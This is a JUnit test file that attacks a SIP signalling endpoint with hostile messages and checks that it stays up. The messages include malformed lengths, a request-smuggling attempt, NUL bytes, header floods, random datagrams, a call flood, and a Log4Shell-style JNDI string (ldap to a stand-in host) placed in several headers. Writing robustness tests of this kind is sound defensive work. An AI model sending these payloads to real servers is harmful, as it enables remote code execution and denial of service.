package org.belfry.signal;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;
import org.belfry.guard.GateLimits;
import org.belfry.net.Door;
import org.belfry.sip.digest.Offer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What is sent to break the endpoint, over the wire. After each: nothing of ours has met a fault, nothing is held, and
/// the next good request is answered.
final class HostilePeersTest {

    private final Registrar registrar = new Registrar(Offer.strong(), "ann");
    private final Path folder;
    private final Station station;

    HostilePeersTest(@TempDir Path folder) {
        this.folder = folder;
        station = new Station(folder, EndpointLimits.USUAL, registrar::on);
    }

    @AfterEach
    void nothingOfOursHasMetAFault() {
        long faults = station.endpoint.count(EndpointCounter.FAULTS);
        station.close();
        assertThat(faults).as("faults of ours").isZero();
    }

    private void nextGoodRequestIsAnswered(SipTransport transport, Door door) throws IOException {
        try (var caller = station.caller(transport, door)) {
            // Over another transport the same branch would be the same request.
            String branch = "good-" + transport;
            caller.send(Packets.options(transport, branch));
            assertThat(caller.receive()).startsWith("SIP/2.0 200").contains("z9hG4bK-" + branch);
        }
    }

    /// A caller of one hostile message: what comes back, or how it ended, does not matter here.
    private void sendAndForget(SipTransport transport, Door door, String message) throws IOException {
        try (var caller = station.caller(transport, door)) {
            caller.send(message);
        } catch (IOException hungUp) {
            assertThat(transport).isNotEqualTo(SipTransport.UDP);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-1",
                "+5",
                "4294967296",
                "18446744073709551616",
                "99999999999999999999999999999999",
                "0x10",
                "5 5",
                "5, 5",
                "",
                "1e3",
                "٣",
                "2147483648"
            })
    void lengthsThatAreNone(String length) throws Exception {
        for (var transport : new SipTransport[] {SipTransport.UDP, SipTransport.TCP}) {
            var door = station.open(transport);
            String lie = Packets.options(transport, "lie").replace("Content-Length: 0", "Content-Length: " + length);
            try (var caller = station.caller(transport, door)) {
                caller.send(lie.getBytes(StandardCharsets.UTF_8));
                // Nobody knows where the next message begins: refused, and over a stream the end.
                assertThat(caller.receive()).startsWith("SIP/2.0 ").containsPattern("^SIP/2.0 (400|513) ");
            }
            nextGoodRequestIsAnswered(transport, door);
        }
    }

    @Test
    void aLengthThatIsTooShortLeavesABrokenMessageBehind() throws Exception {
        var door = station.open(SipTransport.TCP);
        String smuggled = Packets.options(SipTransport.TCP, "smuggled");
        try (var caller = (Caller.Streams) station.caller(SipTransport.TCP, door)) {
            caller.send(Packets.options(SipTransport.TCP, "short").replace("Content-Length: 0", "Content-Length: 3")
                    + "v=0 is what comes after\r\n\r\n" + smuggled);
            // The first may be answered before the connection ends; what was hidden behind its body never is.
            assertThat(caller.readToEnd()).doesNotContain("z9hG4bK-smuggled");
        }
        assertThat(station.sightings(door, "Malformed")).isPositive();
        nextGoodRequestIsAnswered(SipTransport.TCP, door);
    }

    @ParameterizedTest
    @EnumSource(names = {"UDP", "TCP", "TLS"})
    void hugeAndNegativeNumbersAndNulsAndTenThousandHeaders(SipTransport transport) throws Exception {
        var door = station.open(transport);
        String good = Packets.options(transport, "n");
        for (String message : new String[] {
            good.replace("CSeq: 1 ", "CSeq: 4294967296 "),
            good.replace("CSeq: 1 ", "CSeq: -1 "),
            good.replace("Max-Forwards: 70", "Max-Forwards: 99999999999999999999"),
            good.replace(":5999", ":-1"),
            good.replace(":5999", ":99999999999"),
            good.replace("\r\nMax-Forwards", "\r\nExpires: -99999999999999999999\r\nMax-Forwards"),
            good.replace("\r\nMax-Forwards", "\r\nX: a\0b\r\nMax-Forwards"),
            good.replace("ann@", "ann\0@"),
            "\0".repeat(100) + good,
            good.replace("\r\nMax-Forwards", "\r\nX-Odd: b".repeat(10_000) + "\r\nMax-Forwards"),
            good.replace("\r\nMax-Forwards", "\r\nRoute: <sip:a;lr>".repeat(2_000) + "\r\nMax-Forwards"),
        }) {
            if (transport != SipTransport.UDP || message.length() <= 65_507) {
                sendAndForget(transport, door, message);
            }
        }
        nextGoodRequestIsAnswered(transport, door);
    }

    @ParameterizedTest
    @EnumSource(names = {"UDP", "TCP", "TLS"})
    void namesInAnyPlaceAreNeverLookedUp(SipTransport transport) throws Exception {
        var door = station.open(transport);
        String jndi = "${jndi:ldap://trap.test/a}";
        for (String place : new String[] {"User-Agent", "Subject", "X-Api-Version", "Organization", "Warning"}) {
            sendAndForget(
                    transport,
                    door,
                    Packets.options(transport, place).replace("\r\nMax", "\r\n" + place + ": " + jndi + "\r\nMax"));
        }
        sendAndForget(
                transport,
                door,
                Packets.options(transport, "q").replace("<sip:ann@house.test>", "\"" + jndi + "\" <sip:x@trap.test>"));
        sendAndForget(transport, door, Packets.options(transport, "p").replace("192.0.2.77", "trap.test"));
        nextGoodRequestIsAnswered(transport, door);
        assertThat(station.zone.asked()).as("names looked up").isEmpty();
    }

    @Test
    void datagramsOfEverySize() throws Exception {
        var door = station.open(SipTransport.UDP);
        var random = new Random(65_535);
        byte[] good = Packets.options(SipTransport.UDP, "sized").getBytes(StandardCharsets.ISO_8859_1);
        try (var caller = station.caller(SipTransport.UDP, door)) {
            for (int size = 0; size <= 65_507; size += size < 1_600 ? 1 : 997) {
                byte[] datagram = new byte[size];
                random.nextBytes(datagram);
                if (size % 2 == 0) {
                    System.arraycopy(good, 0, datagram, 0, Math.min(size, good.length));
                }
                caller.send(datagram);
            }
            caller.send(new byte[65_507]);
        }
        nextGoodRequestIsAnswered(SipTransport.UDP, door);
    }

    @ParameterizedTest
    @EnumSource(names = {"UDP", "TCP"})
    void controlCharactersQuotedBehindTheFirstViaAreNoFaultOfOurs(SipTransport transport) throws Exception {
        var door = station.open(transport);
        for (char control : new char[] {0, 1, 27, 127}) {
            String good = Packets.options(transport, "quoted" + (int) control);
            try (var caller = station.caller(transport, door)) {
                caller.send(good.replace(";rport\r\n", ";rport, SIP/2.0/UDP b;x=\"\\" + control + "\"\r\n"));
                assertThat(caller.receive()).startsWith("SIP/2.0 200");
            }
        }
        nextGoodRequestIsAnswered(transport, door);
    }

    @Test
    void aDatagramThatWasCutIsNoMessageEvenWithoutALength() throws Exception {
        var door = station.open(SipTransport.UDP);
        String cut = Packets.options(SipTransport.UDP, "cut")
                .replace("Content-Length: 0\r\n", "Content-Type: text/plain\r\n");
        String fits = cut.replace("-cut", "-fits");
        try (var caller = station.caller(SipTransport.UDP, door)) {
            caller.send(cut + "x".repeat(Endpoint.DATAGRAM_BYTES_MAX + 1 - cut.length()));
            caller.send(fits + "x".repeat(Endpoint.DATAGRAM_BYTES_MAX - fits.length()));
            assertThat(caller.receive()).startsWith("SIP/2.0 200").contains("z9hG4bK-fits");
        }
        assertThat(station.sightings(door, "Oversized")).isEqualTo(1);
    }

    @Test
    void aCancelFromElsewhereEndsNoCall_RFC3261_9_2() throws Exception {
        registrar.onlyRing();
        var door = station.open(SipTransport.UDP);
        String invite = Packets.invite(SipTransport.UDP, "call");
        String cancel = invite.replace("INVITE", "CANCEL");
        try (var caller = station.caller(SipTransport.UDP, door);
                var other = station.caller(SipTransport.UDP, door)) {
            caller.send(invite);
            assertThat(caller.receive()).startsWith("SIP/2.0 180");
            other.send(cancel);
            assertThat(other.receive()).startsWith("SIP/2.0 481");
            caller.send(cancel);
            assertThat(caller.receive()).startsWith("SIP/2.0 200").contains("CANCEL");
            assertThat(caller.receive()).startsWith("SIP/2.0 487");
        }
        assertThat(registrar.seen).containsOnlyOnce("CANCEL");
        assertThat(station.sightings(door, "StrayRequest")).isEqualTo(1);
    }

    @Test
    void aFloodOfCallsIsShedBy503AndThereIsRoomAsSoonAsOneEnds() throws Exception {
        registrar.onlyRing();
        int calls = 2_000;
        var few = EndpointLimits.USUAL.withTransactionsMax(100);
        try (var small = new Station(folder.resolve("small"), few, registrar::on)) {
            var door = small.open(SipTransport.TCP, GateLimits.sipStreams(), 0);
            try (var flood = (Caller.Streams) small.caller(SipTransport.TCP, door);
                    var known = small.caller(SipTransport.TCP, door)) {
                registrar.trustEverybody();
                var answers = new ArrayList<String>();
                for (int i = 0; i < calls; i++) {
                    flood.send(Packets.invite(SipTransport.TCP, "f" + i));
                    for (String answer = flood.receive(); ; answer = flood.receive()) {
                        answers.add(answer);
                        if (!answer.startsWith("SIP/2.0 100")) {
                            break;
                        }
                    }
                }
                assertThat(answers)
                        .filteredOn(answer -> answer.startsWith("SIP/2.0 180"))
                        .hasSizeBetween(1, 200);
                assertThat(answers)
                        .filteredOn(answer -> answer.startsWith("SIP/2.0 503"))
                        .hasSizeGreaterThan(calls - 201)
                        .allMatch(answer -> answer.contains("\r\nRetry-After: 5\r\n"));
                // Given back by the look at all connections once a second at the latest.
                Station.eventually(
                        () -> assertThat(door.spec().gate().counters().held()).isZero());
                // Somebody hangs up, and there is room again.
                flood.send(Packets.invite(SipTransport.TCP, "f0").replace("INVITE", "CANCEL"));
                assertThat(flood.receive()).startsWith("SIP/2.0 200");
                assertThat(flood.receive()).startsWith("SIP/2.0 487");
                flood.send(Packets.invite(SipTransport.TCP, "f0").replace("INVITE", "ACK"));
                // Connections of several loops keep no order among each other: the ACK may be the later one.
                var asked = new AtomicInteger();
                Station.eventually(() -> {
                    String branch = "known" + asked.incrementAndGet();
                    known.send(Packets.options(SipTransport.TCP, branch).replace("call-" + branch, "call-f0"));
                    assertThat(known.receive()).startsWith("SIP/2.0 200");
                });
            }
            assertThat(small.endpoint.count(EndpointCounter.FAULTS)).isZero();
        }
    }
}
